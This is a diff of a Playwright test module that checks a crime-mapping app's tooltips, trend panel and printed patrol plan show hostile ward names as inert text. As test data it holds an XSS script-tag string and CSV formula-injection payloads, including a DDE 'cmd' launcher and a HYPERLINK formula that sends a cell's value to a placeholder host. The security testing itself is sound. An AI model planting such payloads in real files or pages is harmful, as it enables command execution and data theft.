@@ -15,7 +15,7 @@ from pathlib import Path
 
 import pytest
 import shapely
-from playwright.sync_api import Browser, ConsoleMessage, Page, sync_playwright
+from playwright.sync_api import Browser, Page
 
 from api.access.principals import Role
 from api.access.store import AccessStore
@@ -23,7 +23,7 @@ from api.settings import Settings
 from ingest.boundary_sets import load_boundary_set
 from ingest.pipeline import IngestOptions, run
 from ingest.registry import resolve_feed
-from tests.api.render.browser import CHROMIUM, needs_chromium, serving
+from tests.api.render.browser import VIEWPORT, Watched, needs_chromium, serving
 from tests.conftest import PROJECT_DATA, load_police, new_store, police_file
 
 pytestmark = needs_chromium
@@ -37,15 +37,10 @@ PAYLOADS = (
 )
 FORMULAS = ('=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)")
 SET_NAME = "<script>window.__pwned=1</script> wards"
-VIEWPORT = {"width": 1400, "height": 900}
 WARDS = PROJECT_DATA / "wards" / "wards2024_approx_from_lsoa21_cleveland.geojson.gz"
 # Each feed category label (hostile) and the category it stands for.
 CATEGORIES = ("noise", "graffiti", "fly-tipping", "littering", "begging-vagrancy")
 LABELS = dict(zip((*PAYLOADS, *FORMULAS), CATEGORIES * 2, strict=False))
-# Before any page script: every CSP violation the page reports, kept for the test to read.
-RECORD_VIOLATIONS = """window.__violations = [];
-document.addEventListener("securitypolicyviolation", (e) => window.__violations.push(
-  {directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample}));"""
 # Hover every feature of every layer on the map in turn (the mouseover Leaflet's tooltips listen for) and read what
 # each tooltip shows: its text, and the tags it holds.
 HOVER_EVERY_FEATURE = """() => {
@@ -137,49 +132,6 @@ def server(hostile_store: tuple[Path, str]) -> Iterator[str]:
 
 
 @pytest.fixture(scope="module")
-def browser() -> Iterator[Browser]:
-    """The system's chromium, driven by Playwright (no browser download)."""
-    assert CHROMIUM is not None, "CI must install chromium"
-    with sync_playwright() as playwright:
-        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
-        yield launched
-        launched.close()
-
-
-class Watched:
-    """A signed-in analyst's browser page, with every console error, page error and CSP violation it reports."""
-
-    def __init__(self, browser: Browser, server: str, token: str, bypass_csp: bool = False) -> None:
-        self.server = server
-        self.context = browser.new_context(bypass_csp=bypass_csp, viewport=VIEWPORT)
-        self.context.add_init_script(RECORD_VIOLATIONS)
-        self.page = self.context.new_page()
-        self.errors: list[str] = []
-        self.page.on("console", self._console)
-        self.page.on("pageerror", lambda error: self.errors.append(f"page error: {error}"))
-        self.violations: list[dict[str, str]] = []
-        self.page.goto(f"{server}/login")
-        self.page.fill("input[name=token]", token)
-        self.collect()  # the sign-in page's
-        with self.page.expect_navigation():
-            self.page.click("button[type=submit]")
-
-    def _console(self, message: ConsoleMessage) -> None:
-        # the browser asks every site for /favicon.ico; AIM has none
-        if message.type == "error" and not message.location.get("url", "").endswith("/favicon.ico"):
-            self.errors.append(f"console: {message.text} ({message.location.get('url')})")
-
-    def collect(self) -> None:
-        """Keep the violations the current document reported (once)."""
-        self.violations += self.page.evaluate("window.__violations.splice(0)")
-
-    def open(self, path: str) -> None:
-        self.collect()  # what the page being left reported
-        self.page.goto(f"{self.server}{path}")
-        self.page.wait_for_load_state("load")
-
-
-@pytest.fixture(scope="module")
 def analyst(browser: Browser, server: str, hostile_store: tuple[Path, str]) -> Iterator[Watched]:
     watched = Watched(browser, server, hostile_store[1])
     yield watched
@@ -214,10 +166,11 @@ def _assert_every_tooltip_shows_text(page: Page) -> None:
     by_layer: dict[str, list[dict[str, str]]] = {}
     for t in tooltips:
         by_layer.setdefault(next(iter(t["rows"]), ""), []).append(t["rows"])
-    assert set(by_layer) == {"Ward", "H3 cell", "Gi*", "Pattern", "Rank"}  # wards, hexagons, the statistics layers
+    # wards, hexagons, the statistics layers: each tooltip leads with words
+    assert set(by_layer) == {"Ward", "Incidents here", "Hot or cold spot", "Emerging hotspot", "Patrol plan"}
     wards = by_layer["Ward"]
     assert {w["Ward"] for w in wards} == set(PAYLOADS) and {w["Authority"] for w in wards} <= set(PAYLOADS)
-    for layer in ("Gi*", "Pattern", "Rank"):  # a statistics cell names its ward
+    for layer in ("Hot or cold spot", "Emerging hotspot", "Patrol plan"):  # a statistics cell names its ward
         assert {cell["Ward"] for cell in by_layer[layer]} <= set(PAYLOADS), layer
 
 
@@ -244,10 +197,62 @@ def test_every_tooltip_panel_and_label_shows_hostile_names_as_text(analyst: Watc
     assert not analyst.errors, analyst.errors
 
 
+# Click the i-th ward as a person would (the click Leaflet's ward layer listens for); the page's script asks the API
+# for its trend and draws it beside the map.
+CLICK_WARD = """(i) => {
+  const wards = window[document.getElementById("aim-side").dataset.wards];
+  const ward = wards.getLayers()[i];
+  ward.fire("click", {latlng: ward.getBounds().getCenter()}, true);
+}"""
+TREND_SHOWN = """() => {
+  const panel = document.getElementById("aim-trend");
+  const heading = panel.querySelector("h3");
+  return {
+    name: heading ? heading.firstChild.textContent : null,
+    authority: [...panel.querySelectorAll("button")].map((b) => b.textContent).find((t) => t.startsWith("Whole")),
+    tags: [...new Set([...panel.querySelectorAll("*")].map((e) => e.tagName.toLowerCase()))],
+  };
+}"""
+
+
+def test_the_trend_panel_shows_hostile_ward_names_as_text(analyst: Watched) -> None:
+    """A ward's trend, drawn by the page's own script from the API's answer, names the ward and its authority as
+    text: nothing a name carries becomes markup or runs."""
+    page = analyst.page
+    analyst.open("/")
+    shown = []
+    for i in range(8):
+        page.evaluate(CLICK_WARD, i)
+        page.wait_for_selector("#aim-trend[data-state=drawn]")
+        shown.append(page.evaluate(TREND_SHOWN))
+    assert {s["name"] for s in shown} <= set(PAYLOADS) and len({s["name"] for s in shown}) >= 3
+    assert all(s["authority"].removeprefix("Whole authority: ") in PAYLOADS for s in shown)
+    tags = {tag for s in shown for tag in s["tags"]}
+    assert tags <= {
+        "h2",
+        "h3",
+        "small",
+        "div",
+        "svg",
+        "line",
+        "text",
+        "path",
+        "circle",
+        "rect",
+        "title",
+        "ul",
+        "li",
+        "a",
+        "button",
+    }, tags
+    assert page.evaluate(INJECTED) == {"pwned": None, "handlers": 0, "scripts": 0, "images": 0}
+    analyst.assert_clean()
+
+
 def test_the_sources_page_and_the_printed_plan_work_under_the_policy(analyst: Watched) -> None:
     page = analyst.page
     analyst.open("/")
-    plan = page.locator("a", has_text="Print this plan").get_attribute("href")
+    plan = page.locator("a", has_text="Print the patrol plan (PDF)").get_attribute("href")
     assert plan and plan.startswith("/api/v1/patrol-plan?")
     printed = page.request.get(f"{analyst.server}{plan}")
     assert printed.status == 200 and printed.body().startswith(b"%PDF")
